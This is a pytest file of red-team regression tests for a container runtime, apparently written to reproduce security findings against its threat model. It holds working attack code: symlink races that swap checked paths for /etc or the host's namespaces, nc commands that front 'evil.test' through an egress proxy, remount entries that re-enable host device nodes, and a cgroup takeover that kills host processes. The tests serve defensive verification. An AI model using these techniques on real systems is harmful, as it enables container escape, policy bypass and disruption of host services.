"""Red-team reproductions: each test asserts a promise of README.md's threat model and fails
on the code it was written against (see the commit message for the finding)."""
import contextlib
import json
import os
import signal
import socket
import subprocess
import threading
import time

import pytest

from conftest import proc_state, wait_for
from test_egress import egress_policy, egress_lines, proxied, origin  # noqa: F401


def client_hello(sni: bytes) -> bytes:
    ext = (b"\x00\x00" + (len(sni) + 5).to_bytes(2, "big") + (len(sni) + 3).to_bytes(2, "big")
           + b"\x00" + len(sni).to_bytes(2, "big") + sni)
    body = (b"\x03\x03" + b"\x07" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
            + len(ext).to_bytes(2, "big") + ext)
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(hs).to_bytes(2, "big") + hs


@pytest.fixture
def bundle_default(make_hardened_bundle):
    return make_hardened_bundle("bundle")


@contextlib.contextmanager
def flipping(link, *targets):
    """The symlink `link` swapped between the targets as fast as a thread can (each a rename
    over it, so that the link is always there) until the block ends: another container, or
    any unprivileged user, racing a check and the use of the path."""
    stop = threading.Event()

    def flip():
        while not stop.is_set():
            for i, target in enumerate(targets):
                tmp = f"{link}.{i}"
                try:
                    os.symlink(target, tmp)
                except FileExistsError:
                    pass
                os.rename(tmp, link)

    t = threading.Thread(target=flip, daemon=True)
    t.start()
    try:
        yield
    finally:
        stop.set()
        t.join()


def first_run_showing(seerun, make_hardened_bundle, name, configure, mark, tries=60):
    """Runs up to `tries` containers, each in a bundle that configure(bundle) prepares, and
    returns (i, stdout) of the first whose output contains mark (None if none does)."""
    for i in range(tries):
        b = make_hardened_bundle(f"{name}{i}")
        configure(b)
        r = seerun.cmd("run", "--bundle", b.write(), seerun.id(f"{name}{i}"))
        if mark in r.stdout:
            return i, r.stdout
    return None


def pod_peer(seerun, make_hardened_bundle):
    """A created container (sleep 100) whose namespaces a pod member names: its init pid."""
    a = make_hardened_bundle("a")
    a.args("sleep", "100")
    aid = seerun.id("a")
    seerun.cmd("create", "--bundle", a.write(), aid, check=True)
    return seerun.state(aid)["pid"]


def rootfs_with_link(tmp_path, busybox_rootfs, name, target):
    """The test's own copy of the root filesystem whose /name is a symlink to target."""
    root = tmp_path / "rootfs"
    subprocess.run(["cp", "-a", str(busybox_rootfs), str(root)], check=True)
    subprocess.run(["rm", "-rf", str(root / name)], check=True)
    os.symlink(target, root / name)
    return root


@pytest.fixture
def host_null_dir(tmp_path):
    """A host directory holding a device node (/dev/null's, mode 0666, as mynull): through a
    bind without nodev, writing to it would work inside."""
    devdir = tmp_path / "devdir"
    devdir.mkdir()
    node = devdir / "mynull"
    os.mknod(node, 0o666 | 0o020000, os.makedev(1, 3))
    os.chmod(node, 0o666)
    return devdir


@pytest.fixture
def tcp_sink():
    """A TCP server on 127.0.0.1 that records every byte it receives."""
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    got = []
    stop = threading.Event()

    def serve():
        srv.settimeout(0.2)
        while not stop.is_set():
            try:
                c, _ = srv.accept()
            except OSError:
                continue
            c.settimeout(10)
            data = b""
            try:
                while True:
                    d = c.recv(65536)
                    if not d:
                        break
                    data += d
            except OSError:
                pass
            got.append(data)
            c.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield srv.getsockname()[1], got
    stop.set()
    t.join()
    srv.close()


def test_a_tls_hello_sent_after_a_pause_cannot_name_another_host(proxied, tcp_sink):
    """README (Egress by host name): through a CONNECT to a name, a TLS ClientHello's server
    name must be that name, so that an allowed name cannot front for another.  The proxy stops
    looking after HELLO_WAIT_MS (3 s) of silence and relays whatever comes next unchecked."""
    s, b = proxied
    port, got = tcp_sink
    egress_policy(s, port)
    esc = "".join(f"\\x{c:02x}" for c in client_hello(b"evil.test"))
    b.shell(f"""{{ printf 'CONNECT allowed.test:{port} HTTP/1.1\\r\\n\\r\\n'; sleep 3.5;
                  printf '{esc}'; sleep 1; }} | nc 127.0.0.1 3128 | head -1""")
    r = s.cmd("run", "--bundle", b.write(), s.id())
    assert "200 Connection established" in r.stdout, r.stdout + r.stderr
    # The sink records a connection once it closes: all the tunnel relayed is in.
    wait_for(lambda: got, what="the tunnel's connection to the sink to close")
    assert not any(b"evil.test" in d for d in got), (
        "the origin received a ClientHello naming evil.test through a tunnel to allowed.test",
        got, egress_lines(s))


def test_a_bind_source_symlink_swapped_after_the_check_cannot_bind_a_denied_path(
        hardened, tmp_path, make_hardened_bundle):
    """README: bind sources that are or contain denied host paths are refused.  The source is
    judged from one open (policy facts) and bound from a second lookup of the same path
    (open_tree in prepare_bind): a symlink on the way, in a directory another container (or
    any unprivileged user) can write, is swapped in between and /etc is bound."""
    vol = tmp_path / "vol"
    ok = tmp_path / "harmless"
    vol.mkdir()
    ok.mkdir()
    (ok / "marker").write_text("harmless\n")
    link = vol / "link"
    os.symlink(str(ok), link)

    def configure(b):
        b.config["mounts"].append({"destination": "/mnt", "type": "none",
                                   "source": str(link), "options": ["bind", "ro"]})
        b.shell("test -e /mnt/shadow && echo HOST-ETC-BOUND; cat /mnt/marker 2>/dev/null")
    with flipping(link, str(ok), "/etc"):
        leaked = first_run_showing(hardened, make_hardened_bundle, "r", configure, "HOST-ETC-BOUND")
    assert leaked is None, f"the host's /etc was bound through the swapped symlink: {leaked}"


@pytest.fixture
def request_cleanup():
    fns = []
    yield fns
    for f in fns:
        f()


def test_root_path_naming_a_host_directory_does_not_act_as_host_root_there(
        hardened, busybox_rootfs, make_hardened_bundle, request_cleanup):
    """README: no container process holds host uid 0; binds of denied host paths are refused;
    an idmapped view may not let the container act as on-disk ids it does not hold.  root.path
    is never judged: naming any host directory (/etc, /root, /var/lib/seerun, another
    container's state directory) makes it the container's root, idmapped so that container
    root is on-disk root there: it reads root's 0600 files, and the runtime's init creates
    root-owned directories in it for the mount destinations and the profile's tmpfs."""
    # Outside the test session's directory, which the test policy lists in rootfs.idmapPaths.
    import pathlib, shutil, tempfile
    host = pathlib.Path(tempfile.mkdtemp(prefix="seerun-redteam.", dir="/var/tmp"))
    request_cleanup.append(lambda: shutil.rmtree(host, ignore_errors=True))
    os.chmod(host, 0o700)
    (host / "secret").write_text("TOPSECRET\n")
    os.chmod(host / "secret", 0o600)
    before = sorted(os.listdir(host))
    b = make_hardened_bundle("bundle", rootfs=host)
    b.config["mounts"] = [{"destination": "/bb", "type": "none", "source": str(busybox_rootfs),
                           "options": ["bind", "ro"]}]
    b.process["env"] = ["PATH=/bb/bin"]
    b.args("/bb/bin/sh", "-c", "cat /secret")
    r = hardened.cmd("run", "--bundle", b.write(), hardened.id())
    after = sorted(os.listdir(host))
    assert "TOPSECRET" not in r.stdout, "container root read a root-only file of the host " \
        f"directory named by root.path: {r.stdout!r}"
    assert after == before, f"the runtime created {set(after) - set(before)} in the host directory"


@pytest.fixture
def engine_netns():
    """A network namespace as an engine's CNI plugin makes one (ip netns add)."""
    name = "rt1" + os.urandom(3).hex()
    subprocess.run(["ip", "netns", "add", name], check=True)
    yield f"/run/netns/{name}"
    subprocess.run(["ip", "netns", "delete", name])


def test_a_namespace_path_swapped_after_the_check_cannot_join_the_hosts_network(
        hardened, tmp_path, make_hardened_bundle, engine_netns):
    """README: host namespaces are replaced by new ones; the host's network namespace by path
    is refused unless network.allowHost.  The path is judged by a stat() in the policy facts (ns_facts)
    and opened again by open_ns(): a symlink swapped in between joins the host's namespace
    (with the annotation asking for network, so the runtime's loopback-only check is off)."""
    vol = tmp_path / "vol"
    vol.mkdir()
    link = vol / "ns"
    os.symlink(engine_netns, link)

    def configure(b):
        b.config.setdefault("annotations", {})["io.seerun.network"] = "enabled"
        for ns in b.linux["namespaces"]:
            if ns["type"] == "network":
                ns["path"] = str(link)
        b.shell("cat /proc/net/dev")
    with flipping(link, engine_netns, "/proc/self/ns/net"):
        joined = first_run_showing(hardened, make_hardened_bundle, "n", configure, "eth0")
    assert joined is None, f"the container ran in the host's network namespace: {joined}"


def test_proc_cannot_be_left_unmasked_by_a_symlink_a_later_bind_redirects(
        hardened, tmp_path, busybox_rootfs, make_hardened_bundle):
    """README: the default masked and read-only /proc paths are always applied, and proc
    exists only there.  The destination "/proc" is checked as text, but resolved (symlinks
    followed in the rootfs) when proc is mounted and again when the masks are applied: an
    image whose /proc is a symlink through a directory a later bind replaces gets proc mounted
    at one place and the masks looked up at another (ENOENT: skipped)."""
    root = rootfs_with_link(tmp_path, busybox_rootfs, "proc", "/a/b/p")
    for d in ("a", "c/p", "d/p"):
        (root / d).mkdir(parents=True)
    os.symlink("/c", root / "a" / "b")
    redirect = tmp_path / "redirect"
    redirect.mkdir()
    os.symlink("/d", redirect / "b")
    b = make_hardened_bundle("bundle", rootfs=root)
    b.config["mounts"].append({"destination": "/a", "type": "none", "source": str(redirect),
                               "options": ["bind", "ro"]})
    b.shell("stat -f -c %T /c/p; [ -f /c/p/keys ] && echo UNMASKED-KEYS; "
            "[ -f /c/p/sched_debug ] && echo UNMASKED-SCHED-DEBUG; "
            "grep -c ' /c/p/' /c/p/self/mountinfo")
    r = hardened.cmd("run", "--bundle", b.write(), hardened.id())
    out = r.stdout
    # Masked, /proc/keys is /dev/null: a regular file there is the real one.
    assert "UNMASKED" not in out, (
        f"an unmasked procfs is reachable at /c/p (rc {r.returncode}):\n{out}{r.stderr}")


def test_a_fifo_device_entry_cannot_bind_a_host_fifo_from_a_denied_place(
        hardened, bundle_default):
    """README: only safe devices; bind sources at or below seerun's state roots are refused.
    A linux.devices entry of type "p" is no device the profile lists (devices.allowed), yet
    the host's FIFO at that very path (any path: open_host_node) is bind-mounted in, unjudged
    by the denied-path checks: here one inside the state root."""
    os.makedirs(hardened.root, exist_ok=True)
    fifo = os.path.join(hardened.root, "probe.fifo")
    os.mkfifo(fifo, 0o666)
    os.chmod(fifo, 0o666)
    got = []

    def reader():
        fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
        deadline = time.monotonic() + 8
        while time.monotonic() < deadline:
            try:
                d = os.read(fd, 100)
                if d:
                    got.append(d)
            except BlockingIOError:
                pass
            time.sleep(0.05)
        os.close(fd)

    t = threading.Thread(target=reader, daemon=True)
    t.start()
    try:
        b = bundle_default
        b.linux["devices"] = [{"path": fifo, "type": "p", "major": 0, "minor": 0}]
        # The FIFO is made inside (its own, with no reader): opening it for writing blocks,
        # so the write is bounded; the host's, with our reader, would take it at once.
        b.shell(f"stat -c %F {fifo}; timeout 2 sh -c 'echo from-the-container > {fifo}' "
                f"|| echo NO-READER")
        r = hardened.cmd("run", "--bundle", b.write(), hardened.id())
        t.join()
    finally:
        os.unlink(fifo)
    assert not got, (f"the container wrote into a host FIFO below the state root: {got} "
                     f"(rc {r.returncode}, {r.stderr})")
    assert "fifo" in r.stdout and "NO-READER" in r.stdout, (r.stdout, r.stderr)


def test_a_container_seerun_created_can_be_started_and_stopped(hardened, bundle_default):
    """Hostile input must not leave seerun unable to manage what it made: an annotation of
    1.5 MB (config.json is allowed 4 MB) goes into state.json, which create writes and every
    later command refuses to read (limit 1 MB).  create reports success; start, kill and
    state then fail, so the engine can only delete --force."""
    b = bundle_default
    b.config["annotations"] = {"org.example.blob": "A" * 1_500_000}
    b.args("sleep", "100")
    cid = hardened.id()
    r = hardened.cmd("create", "--bundle", b.write(), cid)
    if r.returncode != 0:
        # Refusing it up front keeps the promise, if the refusal says why and leaves nothing.
        assert "annotations" in r.stderr and "state.json" in r.stderr, r.stderr
        assert not os.path.exists(os.path.join(hardened.root, cid)), "create left its record"
        return
    s = hardened.cmd("start", cid)
    k = hardened.cmd("kill", cid, "KILL")
    assert s.returncode == 0 and k.returncode == 0, (
        f"create succeeded but start ({s.returncode}: {s.stderr.strip()}) / kill "
        f"({k.returncode}: {k.stderr.strip()}) fail on the record create wrote")


V1_CONTROLLERS = ("pids", "memory", "freezer", "cpu", "blkio", "devices")


@pytest.fixture
def host_cgroup():
    """A cgroup of the host's (a service, another engine's container) with a process in it."""
    name = "rt1victim" + os.urandom(3).hex()
    v2 = os.path.exists("/sys/fs/cgroup/cgroup.controllers")
    dirs = ([f"/sys/fs/cgroup/{name}"] if v2 else
            [f"/sys/fs/cgroup/{c}/{name}" for c in V1_CONTROLLERS
             if os.path.isdir(f"/sys/fs/cgroup/{c}")])
    for d in dirs:
        os.makedirs(d, exist_ok=True)
    victim = subprocess.Popen(["sleep", "1000"])
    for d in dirs:
        with open(os.path.join(d, "cgroup.procs"), "w") as f:
            f.write(str(victim.pid))
    pids_max = dirs[0] + "/pids.max" if v2 else f"/sys/fs/cgroup/pids/{name}/pids.max"
    with open(pids_max, "w") as f:
        f.write("1000")
    yield "/" + name, victim, pids_max, dirs
    victim.kill()
    victim.wait()
    for d in dirs:
        if os.path.isdir(d):
            os.rmdir(d)


def test_cgroups_path_cannot_take_over_and_kill_a_host_cgroup(hardened, bundle_default,
                                                               host_cgroup):
    """An untrusted config field must not act on host processes outside the container:
    linux.cgroupsPath naming an existing cgroup (a host service's, /system.slice/ssh.service,
    or another engine's container) makes seerun join it, write its limits there, and at
    delete SIGKILL every process in it and remove it, as if it had made it."""
    path, victim, pids_max, dirs = host_cgroup
    b = bundle_default
    b.linux["cgroupsPath"] = path
    b.linux.setdefault("resources", {})["pids"] = {"limit": 3}
    b.args("sleep", "100")
    cid = hardened.id()
    hardened.cmd("create", "--bundle", b.write(), cid)
    hardened.cmd("start", cid)
    with open(pids_max) as f:
        limit = f.read().strip()
    hardened.cmd("delete", "--force", cid)
    # A SIGKILL that delete sent has the process dying: a SIGSTOP sent after it is dropped.
    # So the victim either stops (it was left alone) or dies.
    os.kill(victim.pid, signal.SIGSTOP)
    wait_for(lambda: victim.poll() is not None or proc_state(victim.pid) == "T",
             what="the host's process to stop (alive) or die (killed by delete)")
    alive = victim.poll() is None
    if alive:
        os.kill(victim.pid, signal.SIGCONT)
    assert alive and limit == "1000", (
        f"the host's cgroup {path}: pids.max became {limit}, its process "
        f"{'survived' if alive else 'was killed'} by delete, and it "
        f"{'remains' if os.path.isdir(dirs[0]) else 'was removed'}")


def test_plain_http_through_a_connect_tunnel_cannot_name_another_host(proxied, origin):
    """README (Egress by host name): a forward request's Host header must name the URL's host
    and a ClientHello's server name the CONNECT host, "so that an allowed name cannot front
    for another".  A CONNECT tunnel whose first bytes are not TLS (SR_SNI_NOT_TLS) is relayed
    unchecked: plain HTTP with Host: evil.test reaches the allowed name's address."""
    s, b = proxied
    egress_policy(s, origin)
    b.shell(f"""{{ printf 'CONNECT allowed.test:{origin} HTTP/1.1\\r\\n\\r\\n'; sleep 0.3;
                  printf 'GET /fronted HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n';
                  sleep 1; }} | nc 127.0.0.1 3128""")
    r = s.cmd("run", "--bundle", b.write(), s.id())
    assert "origin saw /fronted host=evil.test" not in r.stdout, (
        "a request naming evil.test went through a tunnel to allowed.test", r.stdout)


def test_policy_check_and_create_decide_a_pod_member_alike(hardened, make_hardened_bundle):
    """README: `seerun policy check --bundle DIR` prints the decisions for a bundle.  It
    computes the host facts without the state root (state_rootfd -1), so a namespace path of
    another seerun container (a pod) is "no seerun container's namespace" to it: check refuses
    what create then allows."""
    pid = pod_peer(hardened, make_hardened_bundle)
    b = make_hardened_bundle("b")
    for ns in b.linux["namespaces"]:
        if ns["type"] == "ipc":
            ns["path"] = f"/proc/{pid}/ns/ipc"
    b.write()
    chk = hardened.cmd("policy", "check", "--bundle", str(b.path))
    bid = hardened.id("b")
    cr = hardened.cmd("create", "--bundle", str(b.path), bid)
    assert (chk.returncode == 0) == (cr.returncode == 0), (
        f"policy check: rc {chk.returncode} {chk.stderr.strip()[:300]}; "
        f"create: rc {cr.returncode} {cr.stderr.strip()[:300]}")


def test_a_remount_entry_cannot_take_nosuid_nodev_off_a_host_bind(hardened, bundle_default,
                                                                 host_null_dir):
    """README (policy row 8): nosuid,nodev are added to every bind, "a setuid binary or a
    device node from the host must not work inside"; every decision is audited.  A later
    mounts[] entry with "remount" is neither a bind nor a new filesystem: the policy skips it
    (no type check, no decision recorded) and the init's remount() clears the flags it names
    (suid, dev) on the bind at that destination."""
    b = bundle_default
    b.config["mounts"].append({"destination": "/x", "type": "none", "source": str(host_null_dir),
                               "options": ["bind"]})
    b.config["mounts"].append({"destination": "/x", "type": "none", "source": "none",
                               "options": ["remount", "dev", "suid"]})
    b.shell("grep ' /x ' /proc/self/mountinfo; echo hi > /x/mynull && echo HOST-NODE-WORKS")
    r = hardened.cmd("run", "--bundle", b.write(), hardened.id())
    assert "HOST-NODE-WORKS" not in r.stdout, (
        f"a host device node in a bind works inside after a remount entry:\n{r.stdout}{r.stderr}")


def test_a_seccomp_listener_path_cannot_hang_create(hardened, bundle_default, tmp_path):
    """Hostile config input must not hang seerun: linux.seccomp.listenerPath is connected to
    as host root (any unix socket of the host, denied places included, unjudged) with a
    blocking connect(); a socket whose backlog is full, which any container with a writable
    host directory can make, blocks create forever."""
    sock_path = str(tmp_path / "l.sock")
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(sock_path)
    srv.listen(0)
    fillers = []
    for _ in range(3):
        x = socket.socket(socket.AF_UNIX)
        x.setblocking(False)
        try:
            x.connect(sock_path)
        except OSError:
            pass
        fillers.append(x)
    b = bundle_default
    b.linux["seccomp"] = {"defaultAction": "SCMP_ACT_ALLOW", "listenerPath": sock_path,
                          "syscalls": [{"names": ["getcwd"], "action": "SCMP_ACT_NOTIFY"}]}
    hung = False
    try:
        hardened.cmd("run", "--bundle", b.write(), hardened.id(), timeout=20)
    except subprocess.TimeoutExpired:
        hung = True
    finally:
        for x in fillers:
            x.close()
        srv.close()
    assert not hung, "seerun run hung for 20 s connecting to linux.seccomp.listenerPath"


def test_a_pod_namespace_path_swapped_after_the_check_cannot_join_the_hosts_ipc(
        hardened, tmp_path, make_hardened_bundle):
    """README: host namespaces are replaced by new ones (row 7: the host's is neutralised,
    another seerun container's allowed).  No annotation needed: the path is judged as another
    container's (a pod) by ns_facts, then opened again by open_ns(), so a symlink swapped in
    between joins the host's IPC namespace (its SysV shared memory and message queues)."""
    pod_ipc = f"/proc/{pod_peer(hardened, make_hardened_bundle)}/ns/ipc"
    host_ipc = os.readlink("/proc/self/ns/ipc")
    vol = tmp_path / "vol"
    vol.mkdir()
    link = vol / "ns"
    os.symlink(pod_ipc, link)

    def configure(b):
        for ns in b.linux["namespaces"]:
            if ns["type"] == "ipc":
                ns["path"] = str(link)
        # mqueue can only be mounted by the IPC namespace's owner: leave it out.
        b.config["mounts"] = [m for m in b.config["mounts"] if m["type"] != "mqueue"]
        b.shell("readlink /proc/self/ns/ipc")
    with flipping(link, pod_ipc, "/proc/self/ns/ipc"):
        joined = first_run_showing(hardened, make_hardened_bundle, "i", configure, host_ipc)
    assert joined is None, f"the container ran in the host's IPC namespace: {joined}"


def test_policy_check_never_creates_the_state_root(hardened, bundle_default):
    """policy check opens the state root to see the pods create would see, read-only: a root
    that does not exist yet stays absent (and the check still answers)."""
    assert not os.path.exists(hardened.root)
    chk = hardened.cmd("policy", "check", "--bundle", str(bundle_default.write()))
    assert chk.returncode == 0, chk.stderr
    assert json.loads(chk.stdout)["allowed"] is True
    assert not os.path.exists(hardened.root), "policy check created the state root"


def test_a_seccomp_listener_path_in_a_denied_place_is_refused(hardened, bundle_default):
    """linux.seccomp.listenerPath is connected to as host root: a socket in a denied place
    (here in seerun's state root; the engines' sockets, a daemon socket directory) is refused
    like a bound one, by create and by policy check alike, and the refusal is audited."""
    os.makedirs(hardened.root, exist_ok=True)
    sock_path = os.path.join(hardened.root, "agent.sock")
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(sock_path)
    srv.listen(4)
    try:
        b = bundle_default
        b.linux["seccomp"] = {"defaultAction": "SCMP_ACT_ALLOW", "listenerPath": sock_path,
                              "syscalls": [{"names": ["getcwd"], "action": "SCMP_ACT_NOTIFY"}]}
        b.args("true")
        b.write()
        chk = hardened.cmd("policy", "check", "--bundle", str(b.path))
        r = hardened.cmd("create", "--bundle", str(b.path), hardened.id(), timeout=20)
        srv.settimeout(0.5)
        try:
            conn, _ = srv.accept()
            conn.close()
            accepted = True
        except (socket.timeout, BlockingIOError):
            accepted = False
    finally:
        srv.close()
        os.unlink(sock_path)
    assert r.returncode != 0 and "linux.seccomp.listenerPath" in r.stderr, r.stderr
    assert "denied host path" in r.stderr, r.stderr
    assert chk.returncode != 0 and "linux.seccomp.listenerPath" in chk.stderr, chk.stderr
    assert not accepted, "seerun connected to the socket it refused"
    lines = [json.dumps(a) for a in hardened.audit()]
    assert any("linux.seccomp.listenerPath" in a for a in lines), lines[-3:]


def test_an_existing_cgroup_named_by_cgroups_path_is_refused_and_left_alone(
        hardened, bundle_default, host_cgroup):
    """Under an enforcing profile a container's cgroup is one seerun creates: naming an
    existing one is refused at create, naming linux.cgroupsPath and why, in the audit log
    too; the cgroup, its limits and its process are untouched, and nothing is left."""
    path, victim, pids_max, dirs = host_cgroup
    b = bundle_default
    b.linux["cgroupsPath"] = path
    b.linux.setdefault("resources", {})["pids"] = {"limit": 3}
    b.args("true")
    cid = hardened.id()
    r = hardened.cmd("create", "--bundle", b.write(), cid)
    assert r.returncode != 0, r.stderr
    assert "linux.cgroupsPath" in r.stderr and "exists already" in r.stderr, r.stderr
    assert any(a.get("field") == "linux.cgroupsPath" for a in hardened.audit()), \
        hardened.audit()[-2:]
    with open(pids_max) as f:
        assert f.read().strip() == "1000"
    assert victim.poll() is None and all(os.path.isdir(d) for d in dirs)
    assert not os.path.exists(os.path.join(hardened.root, cid)), "create left its record"


@pytest.mark.parametrize("extra", [
    [{"destination": "/x", "type": "none", "source": "none",
      "options": ["remount", "rdev", "rsuid"]}],
    [{"destination": "/", "type": "none", "source": "none", "options": ["remount", "rdev"]}],
    "bind-clears-recursively",
], ids=["remount-recursive", "remount-parent", "bind-rdev"])
def test_no_options_clear_nosuid_nodev_from_a_host_bind(hardened, bundle_default,
                                                       host_null_dir, extra):
    """Variants of the remount entry: recursive clears on the bind's own destination or on a
    mount above it, and a bind asking nosuid,nodev and rdev,rsuid at once.  Every remount is
    judged and audited (mounts[i].options)."""
    b = bundle_default
    opts = ["bind"]
    if extra == "bind-clears-recursively":
        opts, extra = ["bind", "nosuid", "nodev", "rdev", "rsuid"], []
    b.config["mounts"].append({"destination": "/x", "type": "none", "source": str(host_null_dir),
                               "options": opts})
    b.config["mounts"] += extra
    b.shell("grep ' /x ' /proc/self/mountinfo; echo hi > /x/mynull && echo HOST-NODE-WORKS")
    r = hardened.cmd("run", "--bundle", b.write(), hardened.id())
    assert "HOST-NODE-WORKS" not in r.stdout, (r.stdout, r.stderr)
    mi = [line for line in r.stdout.splitlines() if " /x " in line]
    assert mi and "nodev" in mi[0].split()[5] and "nosuid" in mi[0].split()[5], (r.stdout,
                                                                                 r.stderr)
    n = len(b.config["mounts"])
    fields = [a.get("field") for a in hardened.audit()]
    if extra:
        assert f"mounts[{n - 1}].options" in fields, fields


@pytest.mark.parametrize("pseudo", ["proc", "sys"])
def test_a_symlinked_proc_or_sys_destination_is_refused_naming_it(
        hardened, tmp_path, busybox_rootfs, make_hardened_bundle, pseudo):
    """The class of the unmasked-proc finding: proc and sysfs are mounted only where /proc and
    /sys really are (resolved without symlinks); a symlinked one fails create, naming the
    mount's destination, and nothing is left."""
    root = rootfs_with_link(tmp_path, busybox_rootfs, pseudo, "/elsewhere")
    (root / "elsewhere").mkdir()
    b = make_hardened_bundle("bundle", rootfs=root)
    b.shell("true")
    cid = hardened.id()
    r = hardened.cmd("run", "--bundle", b.write(), cid)
    assert r.returncode != 0, r.stdout
    assert ".destination" in r.stderr and "symbolic link" in r.stderr, r.stderr
    assert not os.path.exists(os.path.join(hardened.root, cid))
